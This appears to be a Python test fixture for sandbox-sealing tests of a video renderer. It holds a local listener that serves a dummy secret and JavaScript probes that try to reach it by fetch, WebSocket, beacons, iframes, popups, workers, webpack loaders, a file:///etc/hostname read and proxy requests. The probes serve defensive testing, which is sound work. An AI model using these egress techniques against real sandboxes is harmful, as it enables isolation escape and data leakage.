"""Hostile clips for the sealing tests: a listener that counts every connection and serves
a secret, and clip code that tries to reach it in many ways at once.

A probe clip runs every probe inside one render and paints one cell per probe: green
when the probe was blocked, red when it read anything back, blue when it cannot tell
(a beacon, a popup, a CSS background: the listener's counters tell for those). The
listener names each hit by its path, so every probe is checked on its own.
"""
import json
import threading
from collections import Counter
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

SECRET = "montage-listener-secret-7f3a9c"
# What the listener answers for *.svg: a legitimate asset when its host is allowed.
RED_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16"><rect width="16" height="16" fill="#ff0000"/></svg>'

# JavaScript expressions evaluating to a Promise of 'leak' | 'blocked' | 'sent'. `L` is
# the listener's origin, `P` the page's own origin. Each probe requests a path of its
# own name, so the listener's counters are per probe.
PROBES = {
    "img": "new Promise((r) => { const i = new Image(); i.onload = () => r('leak'); i.onerror = () => r('blocked'); i.src = L + '/img'; })",
    "css_background": "new Promise((r) => { const d = document.createElement('div'); d.style.cssText = `width:9px;height:9px;background-image:url(${L}/css_background)`; document.body.appendChild(d); setTimeout(() => r('sent'), 800); })",
    "font": "new FontFace('probe', `url(${L}/font)`).load().then(() => 'leak', () => 'blocked')",
    "beacon": "Promise.resolve(navigator.sendBeacon(L + '/beacon', 'x') ? 'sent' : 'blocked')",
    "fetch": "fetch(L + '/fetch').then((r) => r.text()).then((t) => (t ? 'leak' : 'blocked'), () => 'blocked')",
    "xhr": "new Promise((r) => { const x = new XMLHttpRequest(); x.onload = () => r(x.responseText ? 'leak' : 'blocked'); x.onerror = () => r('blocked'); x.open('GET', L + '/xhr'); x.send(); })",
    "websocket": "new Promise((r) => { const w = new WebSocket(L.replace('http', 'ws') + '/websocket'); w.onopen = () => r('leak'); w.onmessage = () => r('leak'); w.onerror = () => r('blocked'); })",
    "eventsource": "new Promise((r) => { const e = new EventSource(L + '/eventsource'); e.onmessage = () => r('leak'); e.onopen = () => r('leak'); e.onerror = () => { e.close(); r('blocked'); }; })",
    "iframe": "new Promise((r) => { const f = document.createElement('iframe'); f.src = L + '/iframe'; document.body.appendChild(f); setTimeout(() => { try { r(f.contentDocument && f.contentDocument.body.innerText.includes('secret') ? 'leak' : 'sent'); } catch (e) { r('sent'); } }, 800); })",
    "script_tag": "new Promise((r) => { const s = document.createElement('script'); s.src = L + '/script_tag'; s.onload = () => r('leak'); s.onerror = () => r('blocked'); document.head.appendChild(s); })",
    "window_open": "Promise.resolve(window.open(L + '/window_open') ? 'leak' : 'blocked')",
    "form_submit": "new Promise((r) => { const f = document.createElement('form'); f.action = L + '/form_submit'; f.method = 'POST'; f.target = '_blank'; document.body.appendChild(f); f.submit(); setTimeout(() => r('sent'), 800); })",
    "dynamic_import": "new Function('u', 'return import(u)')(L + '/dynamic_import').then(() => 'leak', () => 'blocked')",
    "worker": "new Promise((r) => { try { const w = new Worker(URL.createObjectURL(new Blob([`fetch('${L}/worker')`]))); w.onerror = () => r('blocked'); setTimeout(() => r('sent'), 800); } catch (e) { r('blocked'); } })",
    "file_url": "fetch('file:///etc/hostname').then((r) => r.text()).then((t) => (t ? 'leak' : 'blocked'), () => 'blocked')",
    "proxy_internal": "new Promise((r) => { const i = new Image(); i.onload = () => r('leak'); i.onerror = () => r('blocked'); i.src = P + '/proxy?src=' + encodeURIComponent(L + '/proxy_internal') + '&time=0&transparent=false&toneMapped=false'; })",
    "proxy_external": "new Promise((r) => { const i = new Image(); i.onload = () => r('leak'); i.onerror = () => r('blocked'); i.src = P + '/proxy?src=' + encodeURIComponent('https://example.com/video.mp4') + '&time=0&transparent=false&toneMapped=false'; })",
    "webpack_require": "new Promise((r) => { const key = Object.keys(self).find((k) => k.startsWith('webpackChunk')); let req = null; if (key) { self[key].push([[Symbol('probe')], {}, (q) => { req = q; }]); } if (!req || !req.l) { r('blocked'); return; } req.l(L + '/webpack_require', (ev) => r(ev.type === 'load' ? 'leak' : 'blocked'), 'probe'); })",
}
# Probes the page's own policy cannot stop (Chromium has no navigate-to, and a new frame
# has a window.open of its own): the network namespace, or the browser's host resolver,
# keeps them off the network.
NAVIGATION_PROBES = {
    "popup_via_frame": "new Promise((r) => { const f = document.createElement('iframe'); document.body.appendChild(f); try { r(f.contentWindow.open(L + '/popup_via_frame') ? 'sent' : 'blocked'); } catch (e) { r('blocked'); } })",
    "anchor_popup": "new Promise((r) => { const a = document.createElement('a'); a.href = L + '/anchor_popup'; a.target = '_blank'; document.body.appendChild(a); a.click(); setTimeout(() => r('sent'), 800); })",
}
PROBE_TIMEOUT_MS = 3000

PROBE_CLIP = """import {AbsoluteFill, continueRender, delayRender} from 'remotion';
import {useEffect, useState} from 'react';

const L = LISTENER;
const P = window.location.origin;
const PROBES = {BODIES};
const settle = (name) => Promise.race([
  Promise.resolve().then(() => PROBES[name]()).catch(() => 'blocked'),
  new Promise((r) => setTimeout(() => r('blocked'), TIMEOUT)),
]);
const COLOURS = {blocked: '#00ff00', leak: '#ff0000', sent: '#0000ff'};

export default function Hostile() {
  const [handle] = useState(() => delayRender('probes'));
  const [results, setResults] = useState(null);
  useEffect(() => {
    Promise.all(Object.keys(PROBES).map(settle)).then((r) => {
      setResults(r);
      continueRender(handle);
    });
  }, [handle]);
  return (
    <AbsoluteFill style={{flexDirection: 'row', backgroundColor: 'black'}}>
      {(results || []).map((result, index) => (
        <div key={index} style={{flex: 1, backgroundColor: COLOURS[result] || '#ffffff'}} />
      ))}
    </AbsoluteFill>
  );
}
"""


def probe_clip(listener_origin, probes):
    bodies = "{" + ",\n".join(f"{json.dumps(name)}: () => {body}" for name, body in probes.items()) + "}"
    return (
        PROBE_CLIP.replace("LISTENER", json.dumps(listener_origin))
        .replace("{BODIES}", bodies)
        .replace("TIMEOUT", str(PROBE_TIMEOUT_MS))
    )


class Listener:
    """An HTTP server on another local port that counts connections and requests per path
    and answers everything with the secret (CORS open, so a browser would let it be read),
    except *.svg paths: a red square."""

    def __init__(self):
        self.connections = 0
        self.hits = Counter()
        self._lock = threading.Lock()
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self):
                with listener._lock:
                    listener.hits[self.path.split("?")[0].strip("/")] += 1
                svg = self.path.endswith(".svg")
                body = RED_SVG if svg else json.dumps({"secret": SECRET}).encode()
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "image/svg+xml" if svg else "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_HEAD = do_OPTIONS = _answer

            def log_message(self, *args):
                pass

        class Server(ThreadingHTTPServer):
            daemon_threads = True

            def verify_request(self, request, client_address):
                with listener._lock:
                    listener.connections += 1
                return True

        self._server = Server(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *exc):
        self._server.shutdown()
        self._server.server_close()

